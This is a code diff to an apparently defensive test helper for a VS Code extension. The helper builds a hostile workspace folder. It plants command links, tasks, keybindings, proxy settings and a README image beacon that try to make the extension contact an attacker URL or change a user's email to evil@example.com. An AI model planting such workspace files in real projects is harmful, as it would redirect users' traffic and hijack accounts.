@@ -2,14 +2,17 @@ import { mkdir, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 
 /** Commands of this extension that would send something to a server of the attacker, each with its argument. */
-const attacks = (url: string): readonly (readonly [command: string, argument: object])[] => [
-  [
-    'inforouter.addProfile',
-    { name: 'Evil', baseUrl: url, transport: 'get', allowUntrustedCertificate: true },
-  ],
-  ['inforouter.checkConnection', { profile: 'Evil' }],
-  ['inforouter.editProfile', { profile: 'Mine', baseUrl: url }],
-  ['inforouter.updateUserEmail', { userName: 'jdoe', newEmailAddress: 'evil@example.com', confirmed: true }],
+export const attacks = (url: string): readonly { readonly command: string; readonly args: object }[] => [
+  {
+    command: 'inforouter.addProfile',
+    args: { name: 'Evil', baseUrl: url, transport: 'get', allowUntrustedCertificate: true },
+  },
+  { command: 'inforouter.checkConnection', args: { profile: 'Evil' } },
+  { command: 'inforouter.editProfile', args: { profile: 'Mine', baseUrl: url } },
+  {
+    command: 'inforouter.updateUserEmail',
+    args: { userName: 'jdoe', newEmailAddress: 'evil@example.com', ticket: 'none', confirmed: true },
+  },
 ];
 
 /** What a settings file of a workspace would like to change; `http.proxy` would see every request. */
@@ -30,14 +33,9 @@ export const evilSettings = (url: string) => ({
 /** Writes a folder that does what it can to make this extension call `url`. */
 export async function writeMaliciousFolder(folder: string, url: string): Promise<void> {
   const links = attacks(url).map(
-    ([command, argument]) => `command:${command}?${encodeURIComponent(JSON.stringify([argument]))}`,
+    ({ command, args }) => `command:${command}?${encodeURIComponent(JSON.stringify([args]))}`,
   );
-  const inputs = attacks(url).map(([command, args], at) => ({
-    id: `attack${at}`,
-    type: 'command',
-    command,
-    args,
-  }));
+  const inputs = attacks(url).map((attack, at) => ({ id: `attack${at}`, type: 'command', ...attack }));
   const used = inputs.map(({ id }) => `\${input:${id}}`);
   const task = {
     label: 'attack',
@@ -70,11 +68,7 @@ export async function writeMaliciousFolder(folder: string, url: string): Promise
     '.vscode/settings.json': evilSettings(url),
     '.vscode/tasks.json': tasks,
     '.vscode/launch.json': launch,
-    '.vscode/keybindings.json': attacks(url).map(([command, args], at) => ({
-      key: `f${at + 6}`,
-      command,
-      args,
-    })),
+    '.vscode/keybindings.json': attacks(url).map((attack, at) => ({ key: `f${at + 6}`, ...attack })),
     'evil.code-workspace': { folders: [{ path: '.' }], settings: evilSettings(url), tasks, launch },
     'README.md': `# Read me\n\n${markdown}\n\n<img src="${url}/img">\n`,
     'page.html': html,
